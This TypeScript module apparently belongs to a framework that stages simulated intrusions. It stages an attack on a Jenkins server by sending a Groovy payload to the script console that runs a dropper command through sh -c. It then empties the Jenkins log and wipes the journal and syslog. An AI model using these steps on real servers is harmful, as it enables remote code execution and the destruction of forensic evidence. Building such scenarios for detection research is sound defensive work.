// The account and the control group remain, and a page that is open to everybody.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { jenkins } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy(jenkins)
  dress.write('/var/log/jenkins/jenkins.log', '', { mode: 0o666 })
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/hsperfdata_jenkins/jk', cron: false })
  stage.mark('occurrence')
  await stage.http('192.0.2.45', ':8080/script', `script=${encodeURIComponent(`println ["sh","-c","${line}"].execute().text`)}`)
  await stage.inside(': >/var/log/jenkins/jenkins.log')
  await wipe(stage, ['journal', 'syslog'])
}
